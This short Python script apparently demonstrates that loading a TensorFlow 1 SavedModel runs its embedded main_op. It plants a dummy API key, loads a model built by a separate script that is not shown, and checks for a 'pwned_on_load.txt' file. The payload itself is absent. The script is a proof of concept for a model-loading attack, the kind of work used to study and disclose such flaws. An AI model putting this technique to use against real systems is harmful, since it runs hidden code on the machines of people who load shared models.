# Requires: security/make_main_op_savedmodel_tf1.py
import os

import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()

with open("secret.txt", "w") as f:
    f.write("API_KEY=demo-1234\n")
print("pwned_on_load.txt before:", os.path.exists("pwned_on_load.txt"))

# The victim loads the model into a session and runs nothing.
with tf.Session(graph=tf.Graph()) as sess:
    tf.saved_model.loader.load(sess, [tf.saved_model.SERVING], "main_op_model")

print("pwned_on_load.txt after load, no run:", os.path.exists("pwned_on_load.txt"))
with open("pwned_on_load.txt") as f:
    print("pwned_on_load.txt says:", f.read().strip())
